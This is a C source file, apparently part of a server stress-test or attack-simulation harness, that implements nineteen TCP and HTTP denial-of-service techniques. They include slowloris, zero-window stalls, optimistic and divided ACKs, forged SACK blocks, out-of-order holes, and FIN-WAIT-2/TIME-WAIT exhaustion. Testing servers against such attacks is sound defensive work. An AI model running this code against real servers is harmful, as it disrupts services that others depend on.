/* What attackers do with connections that they hold: one plan for each attack. */
#include <string.h>

#include "peers.h"

static const char kGet[] = "GET / HTTP/1.1\r\nHost: s\r\n\r\n";
static const char kGetBig[] = "GET /big HTTP/1.1\r\nHost: s\r\n\r\n";
static const char kGetAndClose[] = "GET / HTTP/1.1\r\nHost: s\r\nConnection: close\r\n\r\n";
enum { WIDE = 65535 };

static void say(struct attacker *attacker, struct peer *peer, uint16_t window, const void *text, size_t size) {
    send_segment(attacker, peer, ACK | PSH, window, text, size);
    peer->snd += (uint32_t)size;
}
static void acknowledge(struct attacker *attacker, struct peer *peer, uint16_t window) {
    send_segment(attacker, peer, ACK, window, NULL, 0);
}
static void plain_ack(struct attacker *attacker, struct peer *peer) { acknowledge(attacker, peer, WIDE); }
static void ack_arrived(struct attacker *attacker, struct peer *peer, const struct seen *seen) {
    if (seen->text_size || seen->flags & FIN) acknowledge(attacker, peer, WIDE);
}
static void ask_big(struct attacker *attacker, struct peer *peer) {
    say(attacker, peer, WIDE, kGetBig, sizeof kGetBig - 1);
    peer->acked = peer->rcv;
}

/* Half-open churn: a SYN, then an RST for the SYN-ACK. */
static void churn_half_open(struct attacker *attacker, struct peer *peer) { drop_connection(attacker, peer); }

/* Whole connections that end by RST as soon as the request is sent. */
static void churn_open(struct attacker *attacker, struct peer *peer) {
    say(attacker, peer, WIDE, kGet, sizeof kGet - 1);
    drop_connection(attacker, peer);
}

/* Zero window from the handshake on: the response never leaves. Probes are answered. */
static void zero_open(struct attacker *attacker, struct peer *peer) { say(attacker, peer, 0, kGetBig, sizeof kGetBig - 1); }
static void zero_arrived(struct attacker *attacker, struct peer *peer, const struct seen *seen) {
    if (!seen->text_size) return;
    peer->rcv -= seen->text_size; /* what a probe carries is not taken */
    acknowledge(attacker, peer, 0);
}

/* Acknowledges, but never reads: the window closes as text arrives, for good. */
static void unread_arrived(struct attacker *attacker, struct peer *peer, const struct seen *seen) {
    uint32_t had = peer->rcv - peer->acked;
    if (seen->text_size) acknowledge(attacker, peer, (uint16_t)(had < WIDE ? WIDE - had : 0));
}

/* Requests one after the other, with a window that lets no response through. */
static void pipeline_open(struct attacker *attacker, struct peer *peer) { say(attacker, peer, 0, kGet, sizeof kGet - 1); }
static void pipeline_tick(struct attacker *attacker, struct peer *peer, double now) {
    (void)now;
    char many[50 * (sizeof kGet - 1)];
    if (peer->snd - peer->una > 60000) return;
    for (int i = 0; i < 50; ++i) memcpy(many + i * (sizeof kGet - 1), kGet, sizeof kGet - 1);
    say(attacker, peer, 0, many, sizeof many);
}

/* A request head that grows by one byte in half a second (slowloris). */
static void slow_head_open(struct attacker *attacker, struct peer *peer) { say(attacker, peer, WIDE, "GET / HTTP/1.1\r\nX: ", 19); }
static void slow_head_tick(struct attacker *attacker, struct peer *peer, double now) {
    if (now - peer->since < 0.5) return;
    peer->since = now;
    say(attacker, peer, WIDE, "x", 1);
}

/* Takes a large response through a window of 64 bytes. */
static void sip_open(struct attacker *attacker, struct peer *peer) { say(attacker, peer, 64, kGetBig, sizeof kGetBig - 1); }
static void sip_arrived(struct attacker *attacker, struct peer *peer, const struct seen *seen) {
    if (seen->text_size) acknowledge(attacker, peer, 64);
}

/* Requests in segments of one byte. */
static void one_byte_tick(struct attacker *attacker, struct peer *peer, double now) {
    (void)now;
    if (peer->snd - peer->una > 1000) return;
    say(attacker, peer, WIDE, kGet + peer->step++ % (sizeof kGet - 1), 1);
}

/* Out-of-order text of 10 bytes, each with a hole before it, that is never filled. */
static void holes_tick(struct attacker *attacker, struct peer *peer, double now) {
    (void)now;
    send_at(attacker, peer, ACK, peer->snd + 10 + peer->step++ % 3000 * 20, peer->rcv, WIDE, "0123456789", 10, NULL, 0);
}

/* Acknowledges text that has not arrived, ahead of the server by up to 100,000 bytes. */
static void optimistic_tick(struct attacker *attacker, struct peer *peer, double now) {
    (void)now;
    if ((int32_t)(peer->acked - peer->rcv) < 100000) peer->acked += 1460;
    else peer->acked = peer->rcv;
    send_at(attacker, peer, ACK, peer->snd, peer->acked, WIDE, NULL, 0, NULL, 0);
}

/* SACK blocks that were never received: within the window, outside, upside down, over each other. Nothing is acknowledged after the first
   segments. */
static void sack_tick(struct attacker *attacker, struct peer *peer, double now) {
    (void)now;
    uint8_t options[28] = {1, 1, 5, 26};
    for (int block = 0; block < 3; ++block) {
        uint64_t r = random64(&attacker->random);
        uint32_t left = peer->acked + (r & 1 ? (uint32_t)(r >> 8) % 100000 : (uint32_t)(r >> 32));
        put32(options + 4 + block * 8, left);
        put32(options + 8 + block * 8, left + (uint32_t)(r >> 1 & 2047) - (r & 4 ? 1024 : 0));
    }
    send_at(attacker, peer, ACK, peer->snd, peer->acked, WIDE, NULL, 0, options, sizeof options);
}

/* The same ACK again and again while text is in flight. */
static void duplicate_tick(struct attacker *attacker, struct peer *peer, double now) {
    (void)now;
    send_at(attacker, peer, ACK, peer->snd, peer->acked, WIDE, NULL, 0, NULL, 0);
}

/* An ACK for every byte that has come (ACK division). */
static void divide_tick(struct attacker *attacker, struct peer *peer, double now) {
    (void)now;
    if (peer->acked != peer->rcv) ++peer->acked;
    send_at(attacker, peer, ACK, peer->snd, peer->acked, WIDE, NULL, 0, NULL, 0);
}

/* Random bytes in place of a request; reopened when the server has closed. */
static void garbage_open(struct attacker *attacker, struct peer *peer) {
    uint8_t text[1200];
    for (size_t i = 0; i < sizeof text; i += 8) {
        uint64_t r = random64(&attacker->random);
        memcpy(text + i, &r, 8);
    }
    say(attacker, peer, WIDE, text, sizeof text);
}
static void garbage_arrived(struct attacker *attacker, struct peer *peer, const struct seen *seen) {
    if (seen->flags & FIN) drop_connection(attacker, peer);
}

/* Lets the server close first, and never closes itself: FIN-WAIT-2. */
static void ask_to_close(struct attacker *attacker, struct peer *peer) {
    say(attacker, peer, WIDE, kGetAndClose, sizeof kGetAndClose - 1);
}
/* The same, and closes: the server is left with TIME-WAIT, and the attacker goes on from another port. */
static void time_wait_arrived(struct attacker *attacker, struct peer *peer, const struct seen *seen) {
    if (!(seen->flags & FIN)) return ack_arrived(attacker, peer, seen);
    send_segment(attacker, peer, FIN | ACK, WIDE, NULL, 0);
    peer->state = CLOSED;
    ++attacker->ended;
}

static const struct plan kPlans[] = {
    {"hoard", 1460, WIDE, plain_ack, NULL, NULL},
    {"half-open-churn", 1460, WIDE, churn_half_open, NULL, NULL},
    {"open-churn", 1460, WIDE, churn_open, NULL, NULL},
    {"zero-window", 1460, 0, zero_open, zero_arrived, NULL},
    {"never-read", 1460, WIDE, ask_big, unread_arrived, NULL},
    {"never-acknowledge", 1460, WIDE, ask_big, NULL, NULL},
    {"pipeline", 1460, 0, pipeline_open, NULL, pipeline_tick},
    {"slow-head", 1460, WIDE, slow_head_open, ack_arrived, slow_head_tick},
    {"slow-reader", 1460, 64, sip_open, sip_arrived, NULL},
    {"one-byte", 1460, WIDE, plain_ack, ack_arrived, one_byte_tick},
    {"mss-1", 1, WIDE, ask_big, ack_arrived, NULL},
    {"holes", 1460, WIDE, plain_ack, NULL, holes_tick},
    {"optimistic-ack", 1460, WIDE, ask_big, NULL, optimistic_tick},
    {"sack-lies", 1460, WIDE, ask_big, NULL, sack_tick},
    {"duplicate-ack", 1460, WIDE, ask_big, NULL, duplicate_tick},
    {"ack-division", 1460, WIDE, ask_big, NULL, divide_tick},
    {"garbage-http", 1460, WIDE, garbage_open, garbage_arrived, NULL},
    {"fin-wait-2", 1460, WIDE, ask_to_close, ack_arrived, NULL},
    {"time-wait", 1460, WIDE, ask_to_close, time_wait_arrived, NULL},
};

const struct plan *plan_of(const char *name) {
    for (size_t i = 0; i < sizeof kPlans / sizeof *kPlans; ++i)
        if (strcmp(kPlans[i].name, name) == 0) return &kPlans[i];
    return NULL;
}
